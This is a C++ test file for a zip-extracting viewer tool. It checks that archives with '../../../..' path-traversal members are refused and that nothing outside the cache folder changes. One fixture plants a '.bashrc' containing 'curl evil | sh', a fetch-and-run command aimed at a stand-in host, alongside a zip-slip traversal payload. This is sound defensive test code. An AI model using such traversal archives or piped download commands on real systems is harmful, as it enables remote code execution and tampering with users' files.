// Hostile zips against the real extraction: archives written byte by byte
// (viewer/test_zip.h) whose members try to leave the cache folder, or to
// fill the disk, opened by LocateCapture, by RunViewer and by the real
// dump_viewer binary. Each must be refused with an error naming the zip and
// the member (dump_viewer exits 2), and nothing may change outside the
// cache folder: a folder beside it is listed before and after.
#include <dirent.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <functional>
#include <cstdlib>
#include <fstream>
#include <map>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/testing/child_process.h"
#include "tests/testing/scoped_env.h"
#include "tests/testing/temp_dir.h"
#include "viewer/capture_location.h"
#include "viewer/test_capture.h"
#include "viewer/test_zip.h"
#include "viewer/viewer.h"

namespace argsdump {
namespace {

using ::testing::HasSubstr;

std::string Slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

void Put(const std::string& path, const std::string& bytes) {
  std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
}

// Every path below `dir` (links not followed) with its kind, size and
// contents: what "nothing changed" compares.
void Snapshot(const std::string& dir, const std::string& rel, std::map<std::string, std::string>* out) {
  DIR* d = ::opendir(dir.c_str());
  if (d == nullptr) return;
  while (struct dirent* e = ::readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name, key = rel + "/" + name;
    struct stat st;
    if (::lstat(path.c_str(), &st) != 0) continue;
    if (S_ISDIR(st.st_mode)) {
      (*out)[key] = "dir";
      Snapshot(path, key, out);
    } else if (S_ISLNK(st.st_mode)) {
      (*out)[key] = "link";
    } else {
      (*out)[key] = absl::StrCat("file ", st.st_size, " ", std::hash<std::string>()(Slurp(path)));
    }
  }
  ::closedir(d);
}
std::map<std::string, std::string> Snapshot(const std::string& dir) {
  std::map<std::string, std::string> out;
  Snapshot(dir, "", &out);
  return out;
}

// A capture's real files: args_dump.json and args.bin.
struct CaptureFiles {
  std::string manifest, bin;
};
CaptureFiles RealCapture() {
  const std::string dir = AbsentTempPath("hostile_capture_src");
  EXPECT_TRUE(ViewerScene(false).WriteTo(dir).ok());
  return {Slurp(dir + "/args_dump.json"), Slurp(dir + "/args.bin")};
}

std::string ViewerBinary() {
  const char* srcdir = std::getenv("TEST_SRCDIR");
  const char* ws = std::getenv("TEST_WORKSPACE");
  return absl::StrCat(srcdir != nullptr ? srcdir : ".", "/", ws != nullptr ? ws : "argsdump",
                      "/viewer/dump_viewer");
}

struct ViewerRun {
  int code = -1;
  std::string err;
};
ViewerRun RunBinary(const std::vector<std::string>& args, const std::string& cwd) {
  std::vector<std::string> argv = {"/bin/sh", "-c", "cd \"$0\" && exec \"$@\"", cwd,
                                   ViewerBinary()};
  argv.insert(argv.end(), args.begin(), args.end());
  auto child = ChildProcess::Start(argv, AbsentTempPath("hostile_viewer_stdout"));
  EXPECT_TRUE(child.ok()) << child.status();
  ViewerRun r;
  if (!child.ok()) return r;
  const std::optional<int> status = (*child)->Wait(std::chrono::seconds(60));
  EXPECT_TRUE(status.has_value()) << "dump_viewer did not end";
  if (status && WIFEXITED(*status)) r.code = WEXITSTATUS(*status);
  r.err = (*child)->stderr_text();
  return r;
}

// The attack: a zip whose capture folder is "../../../..", so that the
// cache folder ($HOME/.cache/argsdump/unzipped/<key>/) is left for $HOME.
std::string HomeAttackZip(const CaptureFiles& c) {
  return MakeTestZip({{"../../../../args_dump.json", c.manifest, true},
                      {"../../../../args.bin", c.bin},
                      {"../../../../.bashrc", "curl evil | sh\n"}});
}

TEST(HostileZipTest, TraversalInTheFolderPartLeavesHomeUntouchedAndExits2) {
  const CaptureFiles capture = RealCapture();
  const std::string t = FreshTempDir("hostile_home");
  const std::string home = t + "/home/u";
  ASSERT_EQ(std::system(("mkdir -p '" + home + "'").c_str()), 0);
  Put(home + "/.bashrc", "precious\n");
  Put(t + "/o.zip", HomeAttackZip(capture));
  const auto before = Snapshot(t);
  ScopedEnv set_home("HOME", home);
  ScopedEnv no_xdg("XDG_CACHE_HOME", nullptr);
  const ViewerRun r = RunBinary({"o.zip"}, t);
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_THAT(r.err, HasSubstr("o.zip"));
  EXPECT_THAT(r.err, HasSubstr("../../../../args_dump.json"));
  EXPECT_EQ(Slurp(home + "/.bashrc"), "precious\n");
  // Nothing anywhere but (perhaps) the cache folder itself.
  auto after = Snapshot(t);
  for (auto it = after.begin(); it != after.end();) {
    it = it->first.rfind("/home/u/.cache", 0) == 0 ? after.erase(it) : std::next(it);
  }
  EXPECT_EQ(after, before);
  // The same zip where a bare dump_viewer finds it: a workspace's
  // bazel-testlogs/.../test.outputs/outputs.zip.
  const std::string ws = t + "/ws";
  ASSERT_EQ(std::system(("mkdir -p '" + ws + "/bazel-testlogs/pkg/t/test.outputs'").c_str()), 0);
  Put(ws + "/bazel-testlogs/pkg/t/test.outputs/outputs.zip", HomeAttackZip(capture));
  const ViewerRun bare = RunBinary({}, ws);
  EXPECT_EQ(bare.code, 2) << bare.err;
  EXPECT_THAT(bare.err, HasSubstr("outputs.zip"));
  EXPECT_THAT(bare.err, HasSubstr("../../../../args_dump.json"));
  EXPECT_EQ(Slurp(home + "/.bashrc"), "precious\n");
  struct stat st;
  EXPECT_NE(::stat((home + "/args_dump.json").c_str(), &st), 0);
  EXPECT_NE(::stat((ws + "/args_dump.json").c_str(), &st), 0);
}

}  // namespace
}  // namespace argsdump
